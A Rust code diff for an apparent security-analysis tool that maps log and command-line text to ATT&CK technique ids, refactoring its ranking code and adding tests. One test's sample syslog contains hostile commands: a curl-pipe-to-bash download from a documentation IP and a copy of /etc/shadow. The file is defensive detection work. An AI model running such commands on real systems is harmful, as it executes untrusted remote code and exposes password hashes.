@@ -22,7 +22,7 @@ pub mod features;
 pub mod model;
 pub mod train;
 
-use super::indicators::{indicators, parent_of, IndicatorSet};
+use super::indicators::{indicators, parent_of, IndicatorHit, IndicatorSet};
 use super::Catalog;
 use crate::incident::Incident;
 use features::Features;
@@ -124,6 +124,8 @@ pub struct Scratch {
     features: Features,
     probs: Vec<f32>,
     buckets: Vec<u32>,
+    rule: Vec<f32>,
+    order: Vec<u32>,
 }
 
 /// The mapper: indicator rules + learned model + catalog for names and tactics.
@@ -169,66 +171,92 @@ impl Mapper {
         self.model
     }
 
-    /// Every parent technique with a score for `text`, best first. Ties break on the id so the
-    /// order is deterministic.
-    pub fn rank_parents(&self, text: &str, scratch: &mut Scratch) -> Vec<ParentScore> {
+    /// The best `limit` parent techniques for `text`, best first. Ties break on the id so the
+    /// order is deterministic. Works on class indices and allocates only for what it returns: this
+    /// is the hot path of mapping a stream of events.
+    pub fn rank_parents(&self, text: &str, limit: usize, scratch: &mut Scratch) -> Vec<ParentScore> {
         let w = self.config.rule_weight.clamp(0.0, 1.0);
-        let mut by_parent: HashMap<String, ParentScore> = HashMap::new();
-        for (id, score) in self.indicators.rank(text) {
-            let parent = parent_of(&id).to_string();
-            let entry = by_parent.entry(parent.clone()).or_insert_with(|| ParentScore {
-                parent,
-                score: 0.0,
-                rule: 0.0,
-                model: 0.0,
-                sub: None,
-            });
-            if id.contains('.') {
-                if entry.sub.is_none() {
-                    entry.sub = Some(id.clone());
-                }
-            }
-            entry.rule = entry.rule.max(score);
-        }
+        let classes = self.model.classes();
         self.model.features().extract_into(text, &mut scratch.features);
         self.model.probabilities_into(&scratch.features, &mut scratch.probs, &mut scratch.buckets);
-        for (class, &p) in scratch.probs.iter().enumerate() {
-            let parent = &self.model.classes()[class];
-            if let Some(entry) = by_parent.get_mut(parent.as_str()) {
-                entry.model = p;
-            } else {
-                by_parent.insert(
-                    parent.clone(),
-                    ParentScore { parent: parent.clone(), score: 0.0, rule: 0.0, model: p, sub: None },
-                );
+        scratch.rule.clear();
+        scratch.rule.resize(classes.len(), 0.0);
+        // Rule hits on parents the model has no class for, and the sub-techniques the rules saw.
+        let mut extra: Vec<ParentScore> = Vec::new();
+        let mut subs: Vec<(usize, String)> = Vec::new();
+        for (id, score) in self.indicators.rank(text) {
+            let parent = parent_of(&id);
+            match self.class_of.get(parent) {
+                Some(&c) => {
+                    scratch.rule[c] = scratch.rule[c].max(score);
+                    if id.contains('.') && !subs.iter().any(|(sc, _)| *sc == c) {
+                        subs.push((c, id.clone()));
+                    }
+                }
+                None => match extra.iter_mut().find(|e| e.parent == parent) {
+                    Some(e) => {
+                        e.rule = e.rule.max(score);
+                        if e.sub.is_none() && id.contains('.') {
+                            e.sub = Some(id.clone());
+                        }
+                    }
+                    None => extra.push(ParentScore {
+                        parent: parent.to_string(),
+                        score: 0.0,
+                        rule: score,
+                        model: 0.0,
+                        sub: id.contains('.').then(|| id.clone()),
+                    }),
+                },
             }
         }
-        let mut ranked: Vec<ParentScore> = by_parent
-            .into_values()
-            .map(|mut s| {
-                s.score = (w * s.rule + (1.0 - w) * s.model).clamp(0.0, 1.0);
-                s
+        for e in &mut extra {
+            e.score = (w * e.rule).clamp(0.0, 1.0);
+        }
+        scratch.order.clear();
+        scratch.order.extend(0..classes.len() as u32);
+        let fused = |c: usize| (w * scratch.rule[c] + (1.0 - w) * scratch.probs[c]).clamp(0.0, 1.0);
+        scratch.order.sort_by(|&a, &b| {
+            fused(b as usize).total_cmp(&fused(a as usize)).then_with(|| classes[a as usize].cmp(&classes[b as usize]))
+        });
+        let mut ranked: Vec<ParentScore> = scratch
+            .order
+            .iter()
+            .take(limit)
+            .map(|&c| {
+                let c = c as usize;
+                ParentScore {
+                    parent: classes[c].clone(),
+                    score: fused(c),
+                    rule: scratch.rule[c],
+                    model: scratch.probs[c],
+                    sub: subs.iter().find(|(sc, _)| *sc == c).map(|(_, id)| id.clone()),
+                }
             })
             .collect();
-        ranked.sort_by(|a, b| b.score.total_cmp(&a.score).then_with(|| a.parent.cmp(&b.parent)));
+        if !extra.is_empty() {
+            ranked.extend(extra);
+            ranked.sort_by(|a, b| b.score.total_cmp(&a.score).then_with(|| a.parent.cmp(&b.parent)));
+            ranked.truncate(limit);
+        }
         ranked
     }
 
     /// The top `config.top_k` parent ids for `text` (what `eval mapper` writes).
     pub fn top_parents(&self, text: &str, scratch: &mut Scratch) -> Vec<String> {
-        self.rank_parents(text, scratch).into_iter().take(self.config.top_k).map(|s| s.parent).collect()
+        self.rank_parents(text, self.config.top_k, scratch).into_iter().map(|s| s.parent).collect()
     }
 
     /// Maps one text (a command line, a log line, a paragraph): the top `config.top_k` techniques
     /// with evidence.
     pub fn map_text(&self, text: &str) -> Vec<TechniqueMatch> {
         let mut scratch = Scratch::default();
-        let ranked = self.rank_parents(text, &mut scratch);
+        let ranked = self.rank_parents(text, self.config.top_k, &mut scratch);
+        let hits = self.indicators.matches(text);
         ranked
             .into_iter()
-            .take(self.config.top_k)
             .map(|s| {
-                let evidence = self.evidence(text, None, "text", &s, &mut scratch);
+                let evidence = self.evidence(text, None, "text", &s, &hits, &scratch.features);
                 self.technique_match(&s, s.score, evidence)
             })
             .collect()
@@ -264,12 +292,16 @@ impl Mapper {
         }
         let mut acc: HashMap<String, Acc> = HashMap::new();
         for (event, field, text) in &texts {
-            let ranked = self.rank_parents(text, &mut scratch);
-            for s in ranked.into_iter().take(self.config.top_k.max(5)) {
+            let ranked = self.rank_parents(text, self.config.top_k.max(5), &mut scratch);
+            if ranked.first().is_none_or(|s| s.score < self.config.min_score) {
+                continue;
+            }
+            let hits = self.indicators.matches(text);
+            for s in ranked {
                 if s.score < self.config.min_score {
                     break;
                 }
-                let evidence = self.evidence(text, *event, field, &s, &mut scratch);
+                let evidence = self.evidence(text, *event, field, &s, &hits, &scratch.features);
                 let a = acc.entry(s.parent.clone()).or_insert_with(|| Acc {
                     scores: Vec::new(),
                     best: s.clone(),
@@ -322,10 +354,11 @@ impl Mapper {
         event: Option<usize>,
         field: &str,
         s: &ParentScore,
-        scratch: &mut Scratch,
+        hits: &[IndicatorHit<'_>],
+        features: &Features,
     ) -> Vec<Evidence> {
         let mut out = Vec::new();
-        for hit in self.indicators.matches(text) {
+        for hit in hits {
             if parent_of(hit.technique) == s.parent {
                 out.push(Evidence {
                     event,
@@ -340,11 +373,11 @@ impl Mapper {
         }
         out.sort_by(|a, b| b.weight.total_cmp(&a.weight));
         if let Some(&class) = self.class_of.get(&s.parent) {
-            self.model.features().extract_into(text, &mut scratch.features);
-            let contributions = self.model.token_contributions(&scratch.features, class);
+            // `features` are those of `text`: rank_parents extracted them just before.
+            let contributions = self.model.token_contributions(features, class);
             let strongest = contributions.first().map_or(1.0, |c| c.1).max(f32::MIN_POSITIVE);
             for (t, c) in contributions.into_iter().take(3) {
-                let tok = scratch.features.tokens[t];
+                let tok = features.tokens[t];
                 out.push(Evidence {
                     event,
                     field: field.to_string(),
@@ -358,5 +391,59 @@ impl Mapper {
         }
         out.truncate(self.config.max_evidence);
         out
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::incident::intake::{read, Format, IntakeOptions};
+
+    #[test]
+    fn incident_mapping_points_at_the_events_and_stays_in_range() {
+        let log =
+            "Nov 21 10:00:01 ws1 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/crontab -l\n\
+                   Nov 21 10:00:02 ws1 bash[311]: curl -s http://203.0.113.7/x.sh | bash\n\
+                   Nov 21 10:00:03 ws1 bash[311]: cat /etc/shadow > /tmp/.s\n";
+        let report = read(log.as_bytes(), Format::Syslog, &IntakeOptions::default()).unwrap();
+        let incident = report.incident().unwrap();
+        let mapper = Mapper::embedded();
+        let mapping = mapper.map_incident(incident);
+        assert!(mapping.texts_mapped >= 3);
+        assert_eq!(mapping.events_skipped, 0);
+        assert!(!mapping.techniques.is_empty());
+        for t in &mapping.techniques {
+            assert!((0.0..=1.0).contains(&t.score), "{t:?}");
+            assert!(t.id.starts_with(&t.parent));
+            for e in &t.evidence {
+                let text = match (e.event, e.field.as_str()) {
+                    (Some(i), "details") => &incident.events[i].details,
+                    (Some(i), "raw") => &incident.events[i].raw,
+                    (None, _) => continue,
+                    other => panic!("unexpected evidence place {other:?}"),
+                };
+                assert_eq!(&text[e.span.0..e.span.1], e.text, "span and text agree");
+            }
+        }
+        let shadow = mapping.techniques.iter().find(|t| t.parent == "T1003").expect("/etc/shadow read maps to T1003");
+        assert!(shadow.evidence.iter().any(|e| e.event == Some(2)));
+
+        let mut limited = mapper.clone();
+        limited.config.max_events = 1;
+        let m = limited.map_incident(incident);
+        assert_eq!(m.events_skipped, 2);
+    }
+
+    #[test]
+    fn rank_parents_is_complete_sorted_and_deterministic() {
+        let mapper = Mapper::embedded();
+        let mut scratch = Scratch::default();
+        let all = mapper.rank_parents("net user /domain", usize::MAX, &mut scratch);
+        assert!(all.len() >= mapper.model().classes().len());
+        assert!(all.windows(2).all(|w| w[0].score >= w[1].score));
+        assert_eq!(all[0].parent, "T1087", "{:?}", &all[..3]);
+        let again = mapper.rank_parents("net user /domain", usize::MAX, &mut scratch);
+        assert_eq!(all, again);
+        assert_eq!(mapper.top_parents("", &mut scratch).len(), mapper.config.top_k);
     }
 }
